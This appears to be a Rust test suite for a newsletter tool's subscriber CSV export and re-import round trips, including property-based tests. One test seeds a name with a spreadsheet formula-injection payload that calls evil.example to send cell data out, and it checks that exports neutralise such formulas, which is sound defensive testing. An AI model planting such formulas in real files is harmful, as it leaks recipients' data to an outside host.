//! What `subscriber export --all` writes, an import into an empty store brings back, all of it.

use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

use postround::domain::{Locale, PublicId, SubscriptionState};
use postround::subscribers::{
    Confirmed, DigestClaim, Import, ImportBasis, JoinRequest, Keys, Leave, Origin, Subscribers, SuppressionReason,
    Topics,
};
use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};

use super::URL;
use super::moving::moves;
use crate::support::household::{Asked, address, confirmed, execute, somebody, subscribers, text};
use crate::support::{TestStore, on_both};

async fn export(subscribers: &Subscribers) -> String {
    let mut csv = Vec::new();
    subscribers.export_all(&mut csv).await.unwrap();
    String::from_utf8(csv).unwrap()
}

/// The rows of an export by address, but for what changes on the way: the last event, which is the import itself, is cut off
/// where `imported`.
fn rows(csv: &str, imported: bool) -> BTreeMap<String, Vec<String>> {
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let consent = reader.headers().unwrap().iter().position(|column| column == "consent").unwrap();
    let mut all = BTreeMap::new();
    for record in reader.records() {
        let mut fields: Vec<String> = record.unwrap().iter().map(str::to_owned).collect();
        let mut events: Vec<serde_json::Value> = serde_json::from_str(&fields[consent]).unwrap();
        if imported {
            assert_eq!(events.pop().unwrap()["event"], "imported");
        }
        fields[consent] = serde_json::to_string(&events).unwrap();
        all.insert(fields[0].clone(), fields);
    }
    all
}

async fn import(store: &TestStore, subscribers: &Subscribers, csv: &str) -> postround::subscribers::ImportReport {
    let path = store.folder.path().join("export.csv");
    std::fs::write(&path, csv).unwrap();
    subscribers.import(&Import::new(&path, ImportBasis::Rows), &Asked::default(), |_, _| {}).await.unwrap()
}

on_both! {
    async fn everything_of_everybody_comes_back_and_links_in_sent_mails_still_work(store: TestStore) {
        let (here, clock) = subscribers(&store, URL).await;
        for name in ["ann", "ben", "cal", "dot", "eli"] {
            confirmed(&here, &format!("{name}@northfold.example"), &["weekly", "jobs"]).await;
        }
        let person = async |name: &str| {
            let id = text(&store, &format!("select public_id from subscribers where email = '{name}@northfold.example'")).await;
            PublicId::parse(&id).unwrap()
        };
        clock.advance(Duration::from_millis(12_345));
        let claim = DigestClaim { subscriber: person("ann").await, digest: "weekly".to_owned() };
        let topics = Topics::Only(["news".to_owned()].into());
        here.choose(&claim, Some(&topics), Some(here.now().plus(Duration::from_secs(86_400))), Origin::PAGE).await.unwrap();
        here.leave(&person("ben").await, Leave::Digest("jobs"), Origin::PAGE.from(Some("192.0.2.9"), Some("Mail \"App\""))).await.unwrap();
        here.leave(&person("cal").await, Leave::All, Origin::ONE_CLICK).await.unwrap();
        here.suppress(&address("dot@northfold.example"), SuppressionReason::Manual, "asked, by phone", Origin::COMMAND_LINE).await.unwrap();
        here.suppress(&address("eli@northfold.example"), SuppressionReason::Complaint, "", Origin::COMMAND_LINE).await.unwrap();
        here.add(&somebody("zoë@bücher.example", &["jobs"]), Origin::PAGE, &Asked::default()).await.unwrap();

        // An id from before two became one.
        let former = "abcdefghijklmnopqrstuvwxya";
        execute(&store, &format!("insert into former_ids (public_id, subscriber_id)
            select '{former}', id from subscribers where email = 'cal@northfold.example'")).await;

        let first = export(&here).await;
        let other = TestStore::sqlite().await;
        let (there, there_clock) = subscribers(&other, URL).await;
        there_clock.advance(Duration::from_secs(60));
        let report = import(&other, &there, &first).await;
        assert_eq!((report.rows, report.added, report.applied), (6, 6, true), "{:?} {:?}", report.refused, report.skipped_rows);
        assert_eq!(rows(&export(&there).await, true), rows(&first, false));
        let live = "select email || ' ' || digest from live_subscriptions where since = 0 order by 1";
        let expected = "ann@northfold.example jobs\nben@northfold.example weekly";
        assert_eq!(text(&other, live).await, expected);
        let states = "select b.state from subscriptions b join subscribers s on s.id = b.subscriber_id
             where s.email = 'ben@northfold.example' order by b.digest";
        assert_eq!(text(&other, states).await, text(&store, states).await);
        assert_eq!(there.leave(&person("ben").await, Leave::All, Origin::ONE_CLICK).await.unwrap(), postround::subscribers::Left::Now);
        assert_eq!(there.leave(&PublicId::parse(former).unwrap(), Leave::All, Origin::ONE_CLICK).await.unwrap(), postround::subscribers::Left::Already);
        let again = import(&other, &there, &first).await;
        assert_eq!((again.added, again.updated), (0, 0), "{again:?}");
    }

    async fn of_whom_nothing_is_mailed_to_an_export_says_so_and_keeps_what_they_chose(store: TestStore) {
        let (here, _clock) = subscribers(&store, URL).await;
        for name in ["ann", "ben", "cal"] {
            confirmed(&here, &format!("{name}@northfold.example"), &["weekly"]).await;
        }
        here.suppress(&address("ben@northfold.example"), SuppressionReason::Complaint, "", Origin::COMMAND_LINE).await.unwrap();
        here.suppress(&address("cal@northfold.example"), SuppressionReason::Manual, "", Origin::COMMAND_LINE).await.unwrap();
        let csv = export(&here).await;
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let shown: Vec<_> = reader.records().map(|row| row.unwrap()).map(|row| (row[4].to_owned(), row[8].starts_with("weekly=* since="))).collect();
        assert_eq!(shown, [("weekly".to_owned(), true), (String::new(), true), (String::new(), true)]);
        let mut gets = Vec::new();
        here.list(|record| {
            gets.push((record.digests[0].gets, record.digests[0].state));
            Ok::<_, postround::subscribers::SubscribersError>(())
        }).await.unwrap();
        assert_eq!(gets, [true, false, false].map(|gets| (gets, SubscriptionState::Active)));
        let other = TestStore::sqlite().await;
        let (there, _clock) = subscribers(&other, URL).await;
        assert_eq!(import(&other, &there, &csv).await.added, 3);
        assert_eq!(rows(&export(&there).await, true), rows(&csv, false));
    }

    async fn whoever_reads_of_an_export_what_every_list_has_takes_nobody_for_confirmed_who_is_suppressed(store: TestStore) {
        let (here, _clock) = subscribers(&store, URL).await;
        let why = [("ann", None), ("ben", Some(SuppressionReason::Bounced)), ("cal", Some(SuppressionReason::Complaint)), ("dot", Some(SuppressionReason::Manual))];
        for (name, reason) in why {
            let email = format!("{name}@northfold.example");
            confirmed(&here, &email, &["weekly"]).await;
            if let Some(reason) = reason {
                here.suppress(&address(&email), reason, "", Origin::COMMAND_LINE).await.unwrap();
            }
        }
        // So that it is the suppression alone that says so.
        execute(&store, "update subscribers set state = 'confirmed'").await;
        let csv = export(&here).await;
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let mut few = csv::Writer::from_writer(Vec::new());
        few.write_record(reader.headers().unwrap().iter().take(8)).unwrap();
        reader.records().for_each(|row| few.write_record(row.unwrap().iter().take(8)).unwrap());
        let few = String::from_utf8(few.into_inner().unwrap()).unwrap();
        assert!(few.starts_with("email,name,state,topics,digests,locale,confirmed_at,evidence\n"), "{few}");
        let other = TestStore::sqlite().await;
        let (there, _clock) = subscribers(&other, URL).await;
        import(&other, &there, &few).await;
        let states = "select email || ' ' || state from subscribers order by email";
        assert_eq!(text(&other, states).await.replace("@northfold.example", ""), "ann confirmed\nben bounced\ncal complained\ndot unsubscribed");
        assert_eq!(text(&other, "select distinct email from live_subscriptions").await, "ann@northfold.example");
        // With all columns nothing is lost.
        let whole = TestStore::sqlite().await;
        let (there, _clock) = subscribers(&whole, URL).await;
        import(&whole, &there, &csv).await;
        assert_eq!(text(&whole, states).await, text(&store, states).await);
        assert_eq!(rows(&export(&there).await, true), rows(&csv, false));
    }

    async fn what_waits_for_an_answer_why_somebody_left_and_where_they_were_before_come_back_too(store: TestStore) {
        let (here, clock) = subscribers(&store, URL).await;
        let (asked, keys) = (Asked::default(), store.folder.path().join("keys"));
        let request = JoinRequest {
            address: address("pat@northfold.example"), name: "Pat \"P\"".to_owned(), locale: Locale::parse("de").ok(),
            choice: somebody("pat@northfold.example", &["weekly"]).choice, wording: "Yes".to_owned(),
        };
        here.join(&request, Origin::PAGE, &asked).await.unwrap();
        let confirm = asked.token();
        confirmed(&here, "lee@northfold.example", &["weekly"]).await;
        let lee = PublicId::parse(&text(&store, "select public_id from subscribers where email like 'lee%'").await).unwrap();
        let goodbye = here.say_goodbye(&lee, "weekly", Leave::All, Origin::PAGE, &asked).await.unwrap();
        let why = here.tokens().verify_undo(goodbye.way.unwrap().as_str(), here.now()).unwrap();
        here.say_why(&why, postround::subscribers::Reason::Other, "too; \"often\"").await.unwrap();
        confirmed(&here, "old@northfold.example", &["weekly"]).await;
        let old = PublicId::parse(&text(&store, "select public_id from subscribers where email like 'old%'").await).unwrap();
        let hash = Keys::read(&keys).unwrap().unwrap().address_hash(&address("old@northfold.example"));
        let claim = here.tokens().verify_manage(here.tokens().manage(&old, &hash, "weekly", here.now()).as_str(), here.now()).unwrap();
        here.ask_address_change(&claim, &address("new@northfold.example"), Origin::PAGE, &asked).await.unwrap();
        let change = here.tokens().verify_change(&asked.token(), here.now()).unwrap();
        clock.advance(Duration::from_millis(1_234));
        here.change_address(&change, "Yes?", Origin::PAGE, &asked).await.unwrap();
        // Somebody types the old address; nobody knows yet whether it is another person.
        let again = JoinRequest { address: address("old@northfold.example"), ..request };
        execute(&store, "delete from notice_slots").await;
        here.join(&again, Origin::PAGE, &asked).await.unwrap();

        let first = export(&here).await;
        let other = TestStore::sqlite().await;
        std::fs::copy(&keys, other.folder.path().join("keys")).unwrap();
        let (there, there_clock) = subscribers(&other, URL).await;
        there_clock.advance(Duration::from_secs(60));
        let report = import(&other, &there, &first).await;
        assert_eq!((report.added, report.skipped), (4, 0), "{:?} {:?}", report.refused, report.skipped_rows);
        assert_eq!(rows(&export(&there).await, true), rows(&first, false));
        for sql in [
            "select asked_at || choice || name || coalesce(locale, '') from join_requests order by 1",
            "select digest || left_at || reason || note from leave_reasons",
            "select address_hash || moved_at from former_addresses",
        ] {
            assert_eq!(text(&other, sql).await, text(&store, sql).await);
        }
        // The link that was mailed works there, with the name that was typed.
        let claim = there.tokens().verify_confirm(&confirm, there.now()).unwrap();
        there.confirm(&claim, "Yes?", Origin::PAGE, &asked).await.unwrap();
        assert_eq!(text(&other, "select name || state from subscribers where email like 'pat%'").await, "Pat \"P\"confirmed");
        let list = "email,evidence\nold@northfold.example,a form\n";
        assert_eq!(import(&other, &there, list).await.skipped_by.get("moved"), Some(&1));
    }

    async fn whoever_moved_and_whoever_asked_for_their_old_address_since_come_back_as_two(store: TestStore) {
        let (here, clock) = subscribers(&store, URL).await;
        // The order of the rows is that of keyed hashes: among so many there are both.
        for household in 0..16 {
            let (old, new) = (format!("old{household}@northfold.example"), format!("new{household}@northfold.example"));
            confirmed(&here, &old, &["weekly"]).await;
            moves(&store, &here, &old, &new).await;
            execute(&store, "delete from notice_slots").await;
            let request = JoinRequest {
                address: address(&old), name: String::new(), locale: None, choice: somebody(&old, &["weekly"]).choice,
                wording: "Yes".to_owned(),
            };
            here.join(&request, Origin::PAGE, &Asked::default()).await.unwrap();
            clock.advance(Duration::from_secs(60));
            let id = text(&store, &format!("select public_id from subscribers where email = '{old}'")).await;
            match household % 4 {
                0 => {}
                1 => assert_eq!(here.leave(&PublicId::parse(&id).unwrap(), Leave::All, Origin::COMMAND_LINE).await.unwrap(), postround::subscribers::Left::Now),
                2 => assert!(here.suppress(&address(&old), SuppressionReason::Complaint, "", Origin::COMMAND_LINE).await.unwrap().changed),
                _ => assert!(here.suppress(&address(&old), SuppressionReason::Bounced, "", Origin::COMMAND_LINE).await.unwrap().changed),
            }
        }
        let first = export(&here).await;
        for same_keys in [true, false] {
            let other = TestStore::sqlite().await;
            if same_keys {
                std::fs::copy(store.folder.path().join("keys"), other.folder.path().join("keys")).unwrap();
            }
            let (there, there_clock) = subscribers(&other, URL).await;
            there_clock.advance(Duration::from_secs(3600));
            let path = other.folder.path().join("export.csv");
            std::fs::write(&path, &first).unwrap();
            let look = Import { dry: true, ..Import::new(&path, ImportBasis::Rows) };
            let foreseen = there.import(&look, &Asked::default(), |_, _| {}).await.unwrap();
            let report = import(&other, &there, &first).await;
            assert_eq!((report.added, report.skipped, foreseen.added), (32, 0, 32), "{:?}", report.skipped_rows);
            assert_eq!(rows(&export(&there).await, true), rows(&first, false), "same keys: {same_keys}");
            let again = import(&other, &there, &first).await;
            assert_eq!((again.added, again.updated), (0, 0), "{again:?}");
        }
    }

    async fn evidence_is_the_same_after_every_further_round_trip(store: TestStore) {
        let (here, _clock) = subscribers(&store, URL).await;
        confirmed(&here, "ann@northfold.example", &["weekly"]).await;
        import(&store, &here, "email,evidence,confirmed_at\nben@northfold.example,paper form 7,2024-02-03\n").await;
        let evidence = |csv: &str| -> Vec<String> {
            let mut reader = csv::Reader::from_reader(csv.as_bytes());
            reader.records().map(|row| row.unwrap()[7].to_owned()).collect()
        };
        let mut csv = export(&here).await;
        let first = evidence(&csv);
        assert!(first[0].ends_with("a signed form") && first[1].contains("paper form 7"), "{first:?}");
        for _ in 0..3 {
            let other = TestStore::sqlite().await;
            let (there, clock) = subscribers(&other, URL).await;
            clock.advance(Duration::from_secs(3600));
            assert!(import(&other, &there, &csv).await.applied);
            csv = export(&there).await;
            assert_eq!(evidence(&csv).into_iter().collect::<BTreeSet<_>>(), first.iter().cloned().collect());
        }
    }

    async fn whatever_is_held_of_somebody_can_be_read_again(store: TestStore) {
        let (here, _clock) = subscribers(&store, URL).await;
        confirmed(&here, "ann@northfold.example", &["weekly"]).await;
        confirmed(&here, "ben@northfold.example", &["weekly"]).await;
        confirmed(&here, "cal@northfold.example", &["weekly"]).await;
        // Letters that were lost before they came here, a browser that calls itself a NUL, nothing subscribed to, and a past of
        // more than a megabyte.
        let spoilt = "Zo\u{fffd}";
        execute(&store, &format!("update subscribers set name = '{spoilt}' where id = 1;
            update consent_events set source = 'import of {spoilt}.csv', agent = '\\u0000' where subscriber_id = 1;
            delete from subscriptions where subscriber_id = 3;
            insert into consent_events (subscriber_id, address, event, digest, at, source, actor, wording)
                select subscriber_id, address, 'chose', digest, at, source, actor, '{}' from consent_events where subscriber_id = 2", "long ".repeat(300_000))).await;
        let first = export(&here).await;
        assert!(first.len() > 1_500_000);
        let other = TestStore::sqlite().await;
        let (there, clock) = subscribers(&other, URL).await;
        clock.advance(Duration::from_secs(60));
        let report = import(&other, &there, &first).await;
        assert_eq!((report.added, report.applied), (3, true), "{:?} {:?}", report.refused, report.skipped_rows);
        assert_eq!(rows(&export(&there).await, true), rows(&first, false));
        // Of a file that somebody else has spoilt they are refused.
        let report = import(&other, &there, &format!("email,name,evidence\ndot@northfold.example,{spoilt},form\n")).await;
        assert!(report.refused[0].reason.contains("cannot be read"), "{:?}", report.refused);
    }

    async fn no_cell_of_an_export_is_a_formula_and_each_comes_back_as_it_was(store: TestStore) {
        let (here, _clock) = subscribers(&store, URL).await;
        for (at, name) in ["=HYPERLINK(\"http://evil.example/?\"&A1)", "'=1+1", "+44 Ann", "'Ann", "-"].iter().enumerate() {
            confirmed(&here, &format!("={at}|x@northfold.example"), &["weekly"]).await;
            execute(&store, &format!("update subscribers set name = '{}' where email like '={at}%'", name.replace('\'', "''"))).await;
        }
        let csv = export(&here).await;
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        for record in reader.records() {
            let record = record.unwrap();
            assert!(!record.iter().any(|cell| cell.starts_with(['=', '+', '-', '@'])), "{record:?}");
        }
        let other = TestStore::sqlite().await;
        let (there, _clock) = subscribers(&other, URL).await;
        assert_eq!(import(&other, &there, &csv).await.added, 5);
        let people = "select email || ' ' || name from subscribers order by email";
        assert_eq!(text(&other, people).await, text(&store, people).await);
        assert!(text(&other, people).await.starts_with("=0|x@northfold.example =HYPERLINK("));
    }

    async fn nothing_in_a_file_begins_in_the_future(store: TestStore) {
        let (here, clock) = subscribers(&store, URL).await;
        let file = "email,state,subscriptions,suppressed\nann@northfold.example,bounced,weekly=*,bounced 2099-01-01T00:00:00Z\n\
                    ben@northfold.example,unsubscribed,weekly=* left left=2099-01-01T00:00:00Z,\n";
        assert_eq!(import(&store, &here, file).await.added, 2);
        clock.advance(Duration::from_secs(60));
        for email in ["ann@northfold.example", "ben@northfold.example"] {
            let asked = Asked::default();
            here.add(&somebody(email, &["weekly"]), Origin::PAGE, &asked).await.unwrap();
            let claim = here.tokens().verify_confirm(&asked.token(), here.now()).unwrap();
            assert_eq!(here.confirm(&claim, "Yes?", Origin::PAGE, &asked).await.unwrap(), Confirmed::Now, "{email}");
        }
    }

    async fn an_export_beside_people_who_are_there_takes_nobodys_link_and_lifts_nothing(store: TestStore) {
        let (here, _clock) = subscribers(&store, URL).await;
        confirmed(&here, "ann@northfold.example", &["weekly"]).await;
        let csv = export(&here).await;
        let (taken, free) = (csv.replace("ann@", "ben@"), csv.replace("weekly=*", "weekly=* left"));
        assert_eq!(import(&store, &here, &taken).await.added, 1);
        assert_eq!(text(&store, "select cast(count(distinct public_id) as text) from subscribers").await, "2");
        let report = import(&store, &here, &free).await;
        assert_eq!(report.updated, 1);
        let left = "select b.state || ' ' || s.state from subscriptions b join subscribers s on s.id = b.subscriber_id where s.id = 1";
        assert_eq!(text(&store, left).await, "left unsubscribed");
        assert_eq!(import(&store, &here, &csv).await.skipped, 1, "whoever has left stays left");
    }
}

/// A person as a row of an export could have them.
fn person() -> impl Strategy<Value = String> {
    let state = prop::sample::select(vec!["pending", "confirmed", "unsubscribed", "bounced", "complained"]);
    let have = prop::sample::select(SubscriptionState::ALL.to_vec());
    let topics = prop::sample::select(vec!["*", "news", "features,news", "gardening"]);
    let digest = prop::sample::select(vec!["weekly", "jobs", "long-gone"]);
    let subscriptions = prop::collection::btree_map(digest, (have, topics, 0_i64..1_000_000_000_000), 1..4);
    let name = "('{0,2}[=+@-])?[\\PC&&[^ \u{fffd}\\p{Z}\\p{C}]]{0,9}( [\\PC&&[^ \u{fffd}\\p{Z}\\p{C}]]{1,9})?";
    let suppressed =
        prop::sample::select(vec!["", "manual 2026-01-02T03:04:05.006Z by \"phone\"", "bounced 2026-01-02T03:04:05Z"]);
    let locale = prop::sample::select(vec!["", "de", "en-US"]);
    (state, subscriptions, name, suppressed, locale).prop_map(|(state, subscriptions, name, suppressed, locale)| {
        let at = |millis: i64| postround::domain::UtcMillis(millis).to_utc().to_rfc3339();
        let one = subscriptions.into_iter().map(|(digest, (have, topics, when))| match have {
            SubscriptionState::Active => format!("{digest}={topics} since={}", at(when)),
            SubscriptionState::Paused => format!("{digest}={topics} paused until={} since={}", at(when * 2), at(when)),
            SubscriptionState::Left => format!("{digest}={topics} left left={} since={}", at(when + 1), at(when)),
        });
        // Somebody who has left has left everything.
        let gone = state == "unsubscribed";
        let one: Vec<String> = one.filter(|text| !gone || text.contains(" left ")).collect();
        let mut csv = csv::Writer::from_writer(Vec::new());
        csv.write_record([
            name.trim(),
            state,
            locale,
            "2020-02-03",
            "a form",
            &one.join("; "),
            suppressed,
            "2020-01-01T00:00:00.5Z",
        ])
        .unwrap();
        String::from_utf8(csv.into_inner().unwrap()).unwrap()
    })
}

#[test]
fn a_round_trip_through_an_empty_store_loses_nothing() {
    let runtime = tokio::runtime::Builder::new_multi_thread().enable_all().build().unwrap();
    let config = Config { failure_persistence: None, ..Config::with_cases(12) };
    TestRunner::new(config)
        .run(&prop::collection::vec(person(), 1..30), |people| {
            let mut csv =
                "email,name,state,locale,confirmed_at,evidence,subscriptions,suppressed,created_at\n".to_owned();
            for (index, person) in people.iter().enumerate() {
                csv.push_str(&format!("reader{index}@northfold.example,{person}"));
            }
            runtime.block_on(async {
                let (one, two) = (TestStore::sqlite().await, TestStore::sqlite().await);
                let ((here, _), (there, clock)) = (subscribers(&one, URL).await, subscribers(&two, URL).await);
                clock.advance(Duration::from_secs(60));
                let report = import(&one, &here, &csv).await;
                prop_assert_eq!(report.added, people.len() as u64, "{:?} {:?}", report.refused, report.skipped_rows);
                let first = export(&here).await;
                let report = import(&two, &there, &first).await;
                prop_assert_eq!(report.added, people.len() as u64, "{:?} {:?}", report.refused, report.skipped_rows);
                prop_assert_eq!(rows(&export(&there).await, true), rows(&first, false));
                Ok(())
            })
        })
        .unwrap();
}
